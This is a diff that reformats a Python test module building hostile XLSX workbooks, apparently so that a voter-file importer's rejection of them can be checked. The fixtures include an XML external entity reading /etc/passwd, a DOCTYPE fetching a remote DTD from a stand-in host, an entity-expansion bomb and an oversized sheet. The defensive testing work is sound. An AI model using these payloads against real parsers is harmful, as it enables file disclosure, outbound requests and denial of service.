@@ -11,7 +11,9 @@ from tests.voters.make_voters import a_row, csv_bytes, table, xlsx
 
 HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {}
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
-SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
+SHEET = (
+    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
+)
 
 
 def hostile(code: str, name: str = "") -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
@@ -26,7 +28,9 @@ def a_book() -> bytes:
     return xlsx(table([a_row(1), a_row(2)]))
 
 
-def with_parts(parts: dict[str, bytes], *, drop: tuple[str, ...] = (), compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+def with_parts(
+    parts: dict[str, bytes], *, drop: tuple[str, ...] = (), compression: int = zipfile.ZIP_DEFLATED
+) -> bytes:
     """A good workbook with members added, replaced or dropped."""
     out = BytesIO()
     with zipfile.ZipFile(BytesIO(a_book())) as old, zipfile.ZipFile(out, "w", compression) as new:
@@ -102,7 +106,13 @@ LAUGHS = (
 FILE_ENTITY = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>'
 REMOTE = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://192.0.2.1/evil.dtd"><worksheet/>'
 
-for where in ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml", "docProps/core.xml"):
+for where in (
+    "xl/worksheets/sheet1.xml",
+    "xl/workbook.xml",
+    "xl/styles.xml",
+    "[Content_Types].xml",
+    "docProps/core.xml",
+):
     for word, body in (("laughs", LAUGHS), ("file", FILE_ENTITY), ("remote", REMOTE)):
         HOSTILE[f"doctype_{word}_{where}"] = (lambda where=where, body=body: with_parts({where: body})), "DOCTYPE"
 
@@ -221,7 +231,9 @@ def sixteen_thousand_columns() -> bytes:
             text = chr(65 + rest) + text
         return text
 
-    return with_sheet('<row r="1">' + "".join(f'<c r="{letters(n)}1"><v>1</v></c>' for n in range(1, 16_001)) + "</row>")
+    return with_sheet(
+        '<row r="1">' + "".join(f'<c r="{letters(n)}1"><v>1</v></c>' for n in range(1, 16_001)) + "</row>"
+    )
 
 
 @hostile("TOO_MANY_COLUMNS")
